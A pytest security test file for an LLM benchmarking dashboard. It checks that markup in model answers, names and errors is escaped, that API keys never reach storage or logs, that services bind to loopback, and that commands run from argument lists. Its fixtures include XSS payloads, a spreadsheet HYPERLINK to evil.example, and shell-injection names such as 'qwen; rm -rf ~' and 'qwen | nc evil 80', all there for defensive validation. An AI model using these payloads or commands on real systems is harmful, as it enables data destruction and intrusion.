"""Security (issue item 4): untrusted text stays text, keys stay secret, local by default,
argument lists only, names checked before they reach a command line.

A run is recorded through the CLI against scripted engines whose answers are markup
and script (`<script>`, `<img onerror>`, a `javascript:` link, markdown), with a hostile
model name, label, prompt and error; every page, the HTML report, the card and every
export is checked with it. API keys given by --api-key, $SERVESCOPE_API_KEY or a lane's
key variable (the dashboard's secrets) are grepped for in the store's bytes, exports,
reports, the run process's log and every message, including from a server that quotes
a rejected key back.
"""

from __future__ import annotations

import ast
import io
import json
import re
import subprocess
import sys
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from lib import cli, endpoints, report, store
from lib.core.records import LaneSpec, ModelInfo, Prompt, RunConfig, Sampling
from lib.endpoints import variants
from lib.load import jobs
from lib.load.runner import ConfigError, validate_config
from lib.report import card as report_card
from lib.report import exports
from lib.report import facts as report_facts
from sandbox import models as sandbox_models
from sandbox.errors import SandboxError
from tests.report.test_report import parse
from tests.scripted import OllamaScript, OllamaServer, OpenAIScript, OpenAIServer
from tests.scripted import ollama_server as ollama_module
from tests.scripted import openai_server as openai_module
from tests.scripted.ollama_server import model_entry

ROOT = Path(__file__).resolve().parents[1]
PAGES = ROOT / "app_pages"

# The answer both engines give, token by token (the scripted servers' word(i)).
ANSWER_PARTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    " [x](javascript:alert(1))",
    ' <a href="javascript:alert(1)">a</a>',
    " **bold** :red[red] $x^2$",
    ' =HYPERLINK("http://evil.example","y")',
]
ANSWER = "".join(ANSWER_PARTS)
MODEL = "<b>m</b>[x](javascript:alert(2))"
LABEL = "<script>alert(3)</script>[l](javascript:alert(3))"
PROMPT = "<img src=x onerror=alert(4)> [p](javascript:alert(4)) 짧게 답해 주세요"
ERROR = "HTTP 503: <script>alert(5)</script>[e](javascript:alert(5))"
OLLAMA_MODEL = "qwen2.5:7b-instruct-q4_K_M"
# What must never reach a browser as live markup: a tag, or a link markdown would render
# (esc_md's backslash before '<' or ']' makes them text).
LIVE = re.compile(r"(?<!\\)<\s*(?:script|img|a\s|b>|iframe|svg)|(?<!\\)\]\(\s*javascript", re.I)


def hostile_word(i: int) -> str:
    return ANSWER_PARTS[i % len(ANSWER_PARTS)]


def clear_chunk_caches() -> None:
    """The scripted servers may cache chunk texts built from word(): drop them, so the
    hostile words are used here and never leak into another test's answers."""
    for module in (openai_module, ollama_module):
        for value in vars(module).values():
            if callable(getattr(value, "cache_clear", None)):
                value.cache_clear()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Iterator[tuple[Path, str]]:
    """A finished two-lane run whose answers, names, label, prompt and one error are
    markup; recorded through the CLI like any other run."""
    folder = tmp_path_factory.mktemp("hostile")
    db = folder / "s.db"
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(openai_module, "word", hostile_word)
        mp.setattr(ollama_module, "word", hostile_word)
        clear_chunk_caches()
        vllm = OpenAIServer(OpenAIScript(ttft_ms=5, gap_ms=1, models=[MODEL]))
        ollama = OllamaServer(OllamaScript(ttft_ms=5, gap_ms=1))
        with vllm, ollama:
            code = cli.main(
                [
                    "run", "--lane", "openai", vllm.base_url, MODEL,
                    "--lane", "ollama", ollama.url, OLLAMA_MODEL,
                    "--prompt", PROMPT, "--concurrency", "1,2", "--requests", "2",
                    "--max-tokens", str(len(ANSWER_PARTS)), "--label", LABEL,
                    "--db", str(db), "--quiet",
                ]
            )  # fmt: skip
    clear_chunk_caches()
    assert code == 0
    with store.opened(db) as conn:
        (run,) = store.list_runs(conn)
        rows = store.get_requests(conn, run["run_id"])
        assert rows and all(r["output_text"] == ANSWER for r in rows)
        first = min(r["id"] for r in rows if r["lane_idx"] == 0 and r["concurrency"] == 2)
        conn.execute("UPDATE requests SET error = ?, output_text = '' WHERE id = ?", (ERROR, first))
    yield db, run["run_id"]


@pytest.fixture
def page_env(hostile_run, monkeypatch) -> tuple[Path, str]:
    db, run_id = hostile_run
    monkeypatch.setenv("SERVESCOPE_DB", str(db))
    monkeypatch.setenv("SERVESCOPE_SANDBOX", "off")
    monkeypatch.setenv("SERVESCOPE_OLLAMA_URL", "")
    monkeypatch.setenv("SERVESCOPE_VLLM_URL", "")
    st.cache_data.clear()
    st.cache_resource.clear()
    return db, run_id


def markup_texts(at: AppTest) -> list[str]:
    """Everything on the page that Streamlit renders as markdown: element bodies and the
    labels of expanders, tabs, metrics and widgets."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "title")
    kinds += ("header", "subheader", "toast", "exception")
    out = [str(el.value) for kind in kinds for el in at.get(kind)]
    for kind in ("expander", "tab", "metric", "button", "selectbox", "multiselect", "radio"):
        out += [str(getattr(el, "label", "") or "") for el in at.get(kind)]
    out += [str(el.value) for el in at.metric]
    # st.table renders markdown in every cell (the Results page's "All checks").
    for el in at.table:
        out += [str(v) for v in [*el.value.columns, *el.value.to_numpy().ravel()]]
    return out


def assert_shown_as_text(at: AppTest) -> None:
    assert not at.exception, at.exception
    for text in markup_texts(at):
        assert not LIVE.search(text), text
    # The only HTML element the app writes is its constant scroll-to-top script.
    for el in at.get("html"):
        assert "alert(" not in str(el.proto), el.proto


def code_texts(at: AppTest) -> list[str]:
    return [str(el.value) for el in at.code] + [str(el.value) for el in at.text]


def open_page(path: Path, run_id: str | None = None) -> AppTest:
    at = AppTest.from_file(str(path), default_timeout=30)
    if run_id:
        at.query_params["run"] = run_id
    return at.run()


def test_results_page_shows_markup_as_text(page_env):
    _, run_id = page_env
    at = open_page(PAGES / "results.py", run_id)
    assert_shown_as_text(at)
    assert ANSWER in code_texts(at)  # verbatim, in a code block
    assert any(PROMPT in t for t in code_texts(at))
    lanes = at.table[0].value["Lane"].tolist()  # the checks of the numbers, per lane
    assert any("\\<b\\>m\\</b\\>\\[x\\]" in lane for lane in lanes), lanes
    at.selectbox(key=f"answers-level-{run_id}").set_value(2).run()
    assert_shown_as_text(at)
    errors = " ".join(str(e.value) for e in at.error)
    assert "alert\\(5\\)" in errors  # the error is shown, escaped


def test_compare_page_shows_markup_as_text(page_env):
    _, run_id = page_env
    at = open_page(PAGES / "compare.py", run_id)
    assert_shown_as_text(at)
    assert ANSWER in code_texts(at)


def test_run_page_history_and_app_frame_show_markup_as_text(page_env):
    _, run_id = page_env
    at = open_page(ROOT / "app.py", run_id)  # the Run page following the run
    assert_shown_as_text(at)
    assert any("alert\\(3\\)" in t for t in markup_texts(at))  # the label, escaped
    at = open_page(PAGES / "history.py")
    assert_shown_as_text(at)
    at.multiselect(key="history_pick").set_value([run_id]).run()
    assert_shown_as_text(at)


def test_engines_page_and_sidebar_show_hostile_model_names_as_text(tmp_path, monkeypatch):
    """An engine lists models named with markup: tables, captions and the sidebar show
    them as text."""
    ollama = OllamaServer(OllamaScript(models=[model_entry(MODEL), model_entry(OLLAMA_MODEL)]))
    vllm = OpenAIServer(OpenAIScript(models=[MODEL], root=MODEL))
    with ollama, vllm:
        monkeypatch.setenv("SERVESCOPE_DB", str(tmp_path / "s.db"))
        monkeypatch.setenv("SERVESCOPE_SANDBOX", "off")
        monkeypatch.setenv(endpoints.OLLAMA_URL_ENV, ollama.url)
        monkeypatch.setenv(endpoints.VLLM_URL_ENV, vllm.base_url)
        monkeypatch.chdir(tmp_path)
        st.cache_data.clear()
        at = open_page(PAGES / "engines.py")
        assert_shown_as_text(at)
        tables = " ".join(df.value.to_csv() for df in at.dataframe)
        assert MODEL in tables  # listed, as text
        st.cache_data.clear()
        at = open_page(ROOT / "app.py")  # the Run page's lane pickers and the sidebar
        assert_shown_as_text(at)
        st.cache_data.clear()


def test_html_report_and_card_escape_everything(hostile_run):
    db, run_id = hostile_run
    view = report_facts.load_view(db, run_id)
    for page in (report.html_report(db, run_id), report_card.card_html(view)):
        tags = parse(page)
        for name, attrs in tags.tags:
            assert name != "img", attrs
            for key, value in attrs.items():
                assert not key.startswith("on"), (name, key)
                assert not (value or "").strip().lower().startswith("javascript:"), (name, value)
        for attrs, body in tags.scripts:
            if attrs.get("type") == "application/json":
                json.loads(body)  # data, and whole: nothing broke out of it
            else:
                assert "alert(" not in body
        assert "<script>alert" not in page and "<img src=x" not in page
    text = " ".join(t for _, t in parse(report.html_report(db, run_id)).text)
    assert ANSWER in text  # shown, as text
    # The checks of the numbers name the lanes: the error rewritten above makes the
    # hostile lane's c=2 fail its consistency check, and its line is text in both.
    lost = f"✗ vllm:{MODEL} c=2 consistency: "
    assert lost in text
    (line,) = re.findall(r'<div class="checks bad">.*?</div>', report_card.card_html(view))
    assert "&lt;b&gt;m&lt;/b&gt;" in line and "<b>" not in line


def test_exports_keep_the_answer_as_data(hostile_run):
    """Exports are data files: the answer is kept exactly, in quoted CSV cells, typed
    Parquet and JSON strings (a spreadsheet's formula rules are the reader's concern)."""
    db, run_id = hostile_run
    frame = pd.read_csv(io.BytesIO(exports.csv_bytes(db, run_id)))
    assert ANSWER in frame["output_text"].tolist() and ERROR in frame["error"].tolist()
    assert MODEL in frame["model"].tolist() and PROMPT in frame["prompt"].tolist()
    raw = exports.csv_bytes(db, run_id).decode("utf-8")
    assert '"' + ANSWER.replace('"', '""') + '"' in raw  # one quoted cell
    table = pd.read_parquet(io.BytesIO(exports.parquet_bytes(db, run_id)))
    assert ANSWER in table["output_text"].tolist()
    texts = [t for lv in json.loads(exports.json_bytes(db, run_id)) for t in lv["generated_texts"]]
    assert ANSWER in texts


# --- API keys ------------------------------------------------------------------------------

KEY = "sk-live-5ecret-0123456789abcdef"
WRONG = "sk-wrong-key-fedcba9876543210"


class EchoKeyServer(OpenAIServer):
    """Refuses a wrong key quoting it back, as some gateways do ("Incorrect API key
    provided: sk-..."); with `chat_echo`, also refuses every chat that way."""

    chat_echo = False

    def handle(self, rec: Any, reply: Any) -> Any:
        given = rec.headers.get("authorization", "").removeprefix("Bearer ")
        chat = rec.path.endswith("/chat/completions")
        if given != self.script.api_key or (chat and self.chat_echo):
            message = f"Incorrect API key provided: {given}. You can find your key at ..."
            reply.json(401, {"error": {"message": message, "type": "invalid_request_error"}})
            return True
        return super().handle(rec, reply)


def files_holding(folder: Path, secret: str) -> list[str]:
    """Every file under `folder` whose bytes contain `secret` (SQLite, WAL, logs...)."""
    return [str(p) for p in folder.rglob("*") if p.is_file() and secret.encode() in p.read_bytes()]


def test_api_keys_never_reach_the_store_exports_reports_or_output(tmp_path, capsys, monkeypatch):
    db = tmp_path / "data" / "s.db"
    monkeypatch.delenv("SERVESCOPE_API_KEY", raising=False)
    with EchoKeyServer(OpenAIScript(ttft_ms=2, gap_ms=1, models=["m"], api_key=KEY)) as srv:
        base = ["run", "--engine", "openai", "--base-url", srv.base_url, "--model", "m"]
        base += ["--prompt", "hi", "--requests", "2", "--max-tokens", "3", "--db", str(db)]
        # 1. --api-key
        assert cli.main([*base, "--api-key", KEY, "--output-json", str(tmp_path / "r.json")]) == 0
        # 2. $SERVESCOPE_API_KEY
        monkeypatch.setenv("SERVESCOPE_API_KEY", KEY)
        assert cli.main([*base, "--label", "env"]) == 0
        monkeypatch.delenv("SERVESCOPE_API_KEY")
        # 3. The dashboard's way: a lane's key variable, the key from secrets.toml handed
        # to the run's process in its environment only.
        config = RunConfig(
            lanes=[
                LaneSpec(
                    engine="openai", base_url=srv.base_url, model="m", api_key_env="SS_TEST_KEY"
                )
            ],
            prompts=[Prompt.from_text("hi")],
            requests=2,
            warmup=0,
            sampling=Sampling(max_tokens=3),
            label="dashboard",
        )
        run_id = jobs.start(config, db, secrets={"SS_TEST_KEY": KEY})
        deadline = time.monotonic() + 60
        while jobs.active_runs(db) and time.monotonic() < deadline:
            time.sleep(0.1)
        out, err = capsys.readouterr()
    with store.opened(db) as conn:
        runs = store.list_runs(conn)
        assert {r["status"] for r in runs} == {"completed"} and len(runs) == 3  # keys worked
        assert all(r["error"] is None for r in store.get_requests(conn, run_id))
    run_ids = [r["run_id"] for r in runs]
    for rid in run_ids:  # reports and exports of every run
        (tmp_path / f"{rid}.html").write_text(report.html_report(db, rid), encoding="utf-8")
        for fmt in exports.FORMATS:
            exports.write_export(db, rid, fmt, tmp_path / f"{rid}.{fmt}")
    assert KEY not in out + err
    assert files_holding(tmp_path, KEY) == []  # store, WAL, jobs' config and log, outputs
    assert (db.parent / "jobs" / f"{run_id}.log").exists()


def test_a_rejected_key_is_never_repeated(tmp_path, capsys):
    """A wrong key at the start (exit 2), and a server that rejects every chat quoting
    the key (exit 1, each request failed): 401 said, the key never."""
    db = tmp_path / "s.db"
    with EchoKeyServer(OpenAIScript(ttft_ms=2, gap_ms=1, models=["m"], api_key=KEY)) as srv:
        base = ["run", "--engine", "openai", "--base-url", srv.base_url, "--model", "m"]
        base += ["--prompt", "hi", "--requests", "2", "--warmup", "0", "--db", str(db)]
        assert cli.main([*base, "--api-key", WRONG]) == 2
        _, err = capsys.readouterr()
        assert "HTTP 401" in err and "***" in err and WRONG not in err
        srv.chat_echo = True
        assert cli.main([*base, "--api-key", KEY]) == 1
        _, err = capsys.readouterr()
    assert err.count("request failed: HTTP 401: Incorrect API key provided: ***") == 2
    assert KEY not in err
    with store.opened(db) as conn:
        (run,) = store.list_runs(conn)
        errors = [r["error"] for r in store.get_requests(conn, run["run_id"])]
    assert errors == ["HTTP 401: Incorrect API key provided: ***. You can find your key at ..."] * 2
    report.html_report(db, run["run_id"])
    (tmp_path / "r.csv").write_bytes(exports.csv_bytes(db, run["run_id"]))
    assert files_holding(tmp_path, KEY) == [] and files_holding(tmp_path, WRONG) == []


def test_a_run_process_rejected_by_the_engine_logs_no_key(tmp_path):
    """Started as the dashboard starts runs: the pre-flight 401 quotes the key; the run's
    row, its log and the store hold the reason without it."""
    db = tmp_path / "s.db"
    with EchoKeyServer(OpenAIScript(models=["m"], api_key=KEY)) as srv:
        config = RunConfig(
            lanes=[LaneSpec(engine="openai", base_url=srv.base_url, model="m", api_key_env="K")],
            prompts=[Prompt.from_text("hi")],
            requests=1,
            warmup=0,
        )
        run_id = jobs.start(config, db, secrets={"K": WRONG})
        deadline = time.monotonic() + 60
        while jobs.active_runs(db) and time.monotonic() < deadline:
            time.sleep(0.1)
    with store.opened(db) as conn:
        run = store.get_run(conn, run_id)
    assert run["status"] == "failed" and "HTTP 401" in run["error"] and "***" in run["error"]
    assert files_holding(tmp_path, WRONG) == []


# --- local by default ----------------------------------------------------------------------


def test_dashboard_binds_to_loopback_unless_told_otherwise():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
    assert re.search(r"^HOST \?= 127\.0\.0\.1$", makefile, re.M)
    dry = subprocess.run(
        ["make", "-n", "-s", "run"], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert "streamlit run app.py --server.address 127.0.0.1 " in dry.stdout, dry.stdout
    # What Streamlit itself reads from the project's config.
    probe = subprocess.run(
        [
            sys.executable, "-c",
            "from streamlit import config; config.get_config_options(force_reparse=True);"
            " print(config.get_option('server.address'))",
        ],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert probe.stdout.strip() == "127.0.0.1", probe.stderr


def test_sandbox_engines_bind_to_loopback(tmp_path):
    from sandbox import engines as sandbox_engines
    from sandbox.paths import Home

    assert sandbox_engines.HOST == "127.0.0.1"
    hf = tmp_path / "hf"
    hf.mkdir()
    where = Home(tmp_path / "home")
    where.root.mkdir(parents=True, exist_ok=True)
    where.logs.mkdir(parents=True, exist_ok=True)
    models = sandbox_models.ModelSet("tiny", "path", hf_dir=hf, ggufs={"tiny-q8_0": hf / "x"})
    launch = sandbox_engines.vllm_launch(where, models, 8123, 1024)
    assert launch.args[launch.args.index("--host") + 1] == "127.0.0.1"
    sandbox_engines.llama_launch(where, models, 8124, 1024)
    llama = json.loads((where.root / "llama-config.json").read_text(encoding="utf-8"))
    assert llama["host"] == "127.0.0.1"


# --- argument lists, never shell strings -----------------------------------------------------

SUBPROCESS_FUNCS = {"run", "Popen", "call", "check_call", "check_output"}
ALWAYS_SHELL = {
    ("os", "system"), ("os", "popen"), ("subprocess", "getoutput"),
    ("subprocess", "getstatusoutput"), ("asyncio", "create_subprocess_shell"),
}  # fmt: skip


def shell_uses(path: Path) -> list[str]:
    """Calls in a file that hand a shell a string: shell=True, os.system/popen, a
    string (or f-string, or concatenation) as a subprocess's command."""
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        owner = (
            func.value.id
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name)
            else None
        )
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
        where = f"{path.relative_to(ROOT) if path.is_relative_to(ROOT) else path}:{node.lineno}"
        if (owner, name) in ALWAYS_SHELL or (owner is None and name in {"system", "popen"}):
            found.append(f"{where} {owner}.{name}")
        for kw in node.keywords:
            if kw.arg == "shell" and not (
                isinstance(kw.value, ast.Constant) and kw.value.value is False
            ):
                found.append(f"{where} shell={ast.unparse(kw.value)}")
        if name in SUBPROCESS_FUNCS and owner in (None, "subprocess", "asyncio") and node.args:
            first = node.args[0]
            if isinstance(first, ast.JoinedStr | ast.BinOp) or (
                isinstance(first, ast.Constant) and isinstance(first.value, str)
            ):
                found.append(f"{where} {name}({ast.unparse(first)[:40]})")
        if (
            name == "create_subprocess_exec"
            and node.args
            and isinstance(node.args[0], ast.JoinedStr)
        ):
            found.append(f"{where} create_subprocess_exec(f-string)")
    return found


def test_processes_start_from_argument_lists_only():
    files = [ROOT / "app.py"]
    for folder in ("lib", "sandbox", "app_pages"):
        files += sorted((ROOT / folder).rglob("*.py"))
    assert len(files) > 30
    offenders = [hit for path in files for hit in shell_uses(path)]
    assert offenders == []


def test_the_shell_check_finds_what_it_looks_for(tmp_path):
    bad = tmp_path / "sample.py"
    bad.write_text(
        "import os, subprocess\n"
        "subprocess.run('ls ' + d)\n"
        "subprocess.Popen(['x'], shell=True)\n"
        "os.system('id')\n"
        "subprocess.check_output(f'echo {x}')\n"
        "subprocess.run(['ls', d])\n",
        encoding="utf-8",
    )
    assert [hit.split()[1].split("(")[0] for hit in shell_uses(bad)] == [
        "run", "shell=True", "os.system", "check_output",
    ]  # fmt: skip


# --- names checked before they reach a command line ------------------------------------------

HOSTILE_NAMES = [
    "qwen; rm -rf ~",
    "$(reboot)",
    "`id`",
    "qwen | nc evil 80",
    "qwen && curl evil",
    "qwen\nrm -rf ~",
    "qwen\r\nX: y",
    "--api-key=stolen",
    "-x",
    "qwen > /etc/passwd",
    "qwen'\"",
    "a" * 400,
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_ollama_pull_names_are_refused(name):
    with pytest.raises(ValueError) as info:
        variants.validate_ollama_model(name)
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("name", [n for n in HOSTILE_NAMES if not n.isprintable() or " " in n])
def test_endpoint_urls_and_names_with_spaces_or_control_characters_are_refused(name):
    """Endpoint URLs and names go to HTTP clients and tables, never to an argv; a line
    break or space in one (header or argument smuggling) is refused all the same."""
    with pytest.raises(ValueError) as info:
        endpoints.validate_endpoint("gpu", f"http://10.0.0.5:8000/{name}", None)
    assert "\n" not in str(info.value)
    if not name.isprintable():
        with pytest.raises(ValueError, match="control characters"):
            endpoints.validate_endpoint(name, "http://10.0.0.5:8000", None)


@pytest.mark.parametrize(
    "name", ["evil;rm -rf ~ $(id)", "--api-key=x", "we ird`id`", "-m", "a\nb", "é" * 3]
)
def test_sandbox_served_names_are_refused(tmp_path, name):
    folder = tmp_path / name
    folder.mkdir()
    (folder / "tiny-q8_0.gguf").write_bytes(b"GGUF")
    with pytest.raises(SandboxError, match="cannot be a served model name"):
        sandbox_models.choose(str(folder))
    good = tmp_path / "models"
    good.mkdir()
    (good / f"{name.replace('/', '_')}.gguf").write_bytes(b"GGUF")
    with pytest.raises(SandboxError, match="cannot be a served model name"):
        sandbox_models.choose(str(good))
    assert sandbox_models.choose(str(folder / "tiny-q8_0.gguf")).name == "tiny-q8_0"


def test_run_model_names_never_reach_the_run_process_command_line(tmp_path, monkeypatch):
    """The dashboard's run process gets a config file and a run id; a model name with
    newlines is refused, one with shell characters stays in the file."""
    with pytest.raises(ConfigError, match="not a model name"):
        validate_config(
            RunConfig(
                lanes=[LaneSpec(engine="openai", base_url="http://127.0.0.1:9/v1", model="m\nx")],
                prompts=[Prompt.from_text("hi")],
            )
        )
    seen: list[Any] = []

    class Recorder:
        pid = 4242

        def __init__(self, args, **kwargs):
            seen.append(args)

        def wait(self):
            return 0

    monkeypatch.setattr(jobs.subprocess, "Popen", Recorder)
    model = "qwen; rm -rf ~ $(id) `whoami`"
    config = RunConfig(
        lanes=[LaneSpec(engine="openai", base_url="http://127.0.0.1:9/v1", model=model)],
        prompts=[Prompt.from_text("hi")],
    )
    jobs.start(config, tmp_path / "s.db")
    (argv,) = seen
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv)
    assert not any("rm -rf" in a or "$(" in a for a in argv)
    assert argv[1:4] == ["-m", "lib.cli", "run"]


def test_displayed_vllm_commands_quote_hostile_names():
    """The Engines page shows `vllm serve` commands to copy: a hostile served root stays
    one quoted argument."""
    root = "/models/evil; rm -rf ~ $(id)-AWQ"
    served = ModelInfo(name="m", digest=root, context_length=4096)
    import shlex

    commands = variants.vllm_variants(served, "http://127.0.0.1:8000/v1")
    assert commands
    for variant in commands:
        assert shlex.split(variant.command) == variant.argv
        assert variant.argv[2].startswith("/models/evil; rm -rf ~ $(id)")
